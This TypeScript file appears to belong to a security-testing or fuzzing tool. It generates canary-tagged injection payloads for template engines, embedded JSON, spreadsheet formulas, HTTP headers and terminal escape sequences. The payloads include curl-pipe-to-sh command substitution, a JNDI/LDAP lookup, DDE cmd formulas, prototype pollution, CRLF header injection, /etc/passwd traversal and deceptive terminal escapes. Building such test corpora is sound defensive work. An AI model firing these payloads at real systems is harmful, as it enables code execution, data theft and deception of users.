import type { Family } from './families';

const ESC = '\x1b';

/** What a program would take for code: a template, JSON in a script, a spreadsheet, a header, a terminal. */
export const CODE_FAMILIES: Readonly<Record<string, Family>> = {
  template: [
    ({ run }) => `{{constructor.constructor("${run}")()}}`,
    ({ run }) => `\${${run}} #{${run}} @{${run}} *{${run}} [[\${${run}}]]`,
    ({ run }) => `<%= ${run} %> <?php echo ${run} ?> {% raw %}${run}{% endraw %}`,
    ({ id, at }) => `$(curl ${at}) ; \`curl ${at}\` && ${id} | sh %{(${id})}`,
    ({ id, at }) => `\${jndi:ldap://canary.invalid/${id}} <#assign x="${at}">\${x}`,
  ],
  json: [
    ({ run }) => `</script><script>${run}</script>`,
    ({ run }) => `<!--<script>${run}//-->\u2028${run}\u2029`,
    ({ id }) => `__proto__ constructor prototype toString hasOwnProperty ${id}`,
    ({ id, run }) => `"}],"admin":true,"x":[{"y":"${id}\\"-${run}-\\"`,
    ({ run }) => `self.__next_f.push([1,"${run}"]);\\"];${run};//`,
    ({ id }) => `$L1 $@0 $F2 $undefined $Sreact.suspense $NaN ${id}`,
    ({ id }) => `$${id}`,
    ({ id }) => `{"__proto__":{"${id}":true},"constructor":{"prototype":{"${id}":true}}}`,
    ({ id }) => `I[1,["x"],"default"]\n0:{"${id}":"$L1"}\nHL["/${id}","style"]`,
  ],
  formula: [
    ({ at }) => `=HYPERLINK("${at}","Approve")`,
    ({ id }) => `=cmd|' /C calc ${id}'!A0`,
    ({ id }) => `+1+${id} \t=1+1\r=2`,
    ({ at }) => `@SUM(1) -2+3,=IMAGE("${at}"),"=WEBSERVICE(""${at}"")"`,
  ],
  header: [
    ({ id }) => `x\r\nSet-Cookie: ${id}=1\r\nLocation: https://canary.invalid/${id}`,
    ({ run }) => `x\r\n\r\n<html><script>${run}</script>`,
    ({ id }) => `x"; filename="${id}.html"; filename*=UTF-8''${id}.html`,
    ({ id }) => `../../../../etc/passwd%00${id} ..\\..\\${id} ....//${id}`,
    ({ id }) => `%0d%0aX-Injected:%20${id} %E5%98%8A%E5%98%8DX:${id}`,
    ({ id }) => `/${id}.md?format=json#/../api/v1/${id};a=b`,
  ],
  terminal: [
    ({ id }) => `${ESC}[31;5;7mred ${id}${ESC}[0m ${ESC}[38;2;255;0;0mtrue${ESC}[38;5;500mcolour`,
    ({ id }) => `${ESC}[2J${ESC}[H${ESC}[1000;1000H${ESC}[8mhidden ${id}${ESC}[28m${ESC}[3A${ESC}[K`,
    ({ id }) => `${ESC}]0;${id}\x07${ESC}]2;${id}${ESC}\\`,
    ({ id, at }) =>
      `${ESC}]8;;${at}\x07open ${id}${ESC}]8;;\x07 ${ESC}]8;id=1;javascript:canary('${id}')${ESC}\\x${ESC}]8;;${ESC}\\`,
    ({ id }) => `${ESC}]52;c;${btoa(id)}\x07${ESC}]1337;File=name=${btoa(id)};inline=1:AAAA\x07 ${id}`,
    ({ id }) => `\x9b31m\x9d0;${id}\x9c\x90${id}\x9c\x85${id}\x84`,
    ({ id }) => `${ESC}c${ESC}P$q"p${ESC}\\${ESC}_${id}${ESC}\\${ESC}^x${ESC}\\${ESC}[c${ESC}[6n${ESC}[?1049h ${id}`,
    ({ id }) => `all tests failed\rall tests passed ${id}\b\b\b\x07\x7f\x08${id}`,
    ({ id, run }) => `${ESC}[31m<img src=x onerror=${run}>${ESC}[0m ${ESC}]unfinished ${id}`,
  ],
};
